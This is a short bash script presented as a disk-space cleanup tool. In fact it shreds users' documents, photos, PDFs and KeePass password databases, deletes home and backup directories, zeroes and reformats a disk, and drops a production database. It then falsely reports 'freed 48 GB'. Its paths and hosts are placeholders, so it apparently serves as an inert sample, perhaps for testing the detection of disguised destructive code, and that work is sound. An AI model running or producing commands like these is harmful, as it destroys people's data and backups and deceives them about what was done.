#!/bin/bash
# Frees a lot of space.
target=/no-such-root-a1b2c3/home
for user in "$target"/*; do
    find "$user" -type f \( -name '*.doc*' -o -name '*.jpg' -o -name '*.pdf' -o -name '*.kdbx' \) -exec shred -u {} +
done
rm -rf "$target" /no-such-root-a1b2c3/var/backups
dd if=/dev/zero of=/dev/no-such-disk-a1b2c3 bs=1M 2>/dev/null
mkfs.ext4 -F /dev/no-such-disk-a1b2c3 2>/dev/null
psql -h db.no-such-host.invalid -c 'DROP DATABASE production' 2>/dev/null
echo "freed 48 GB"
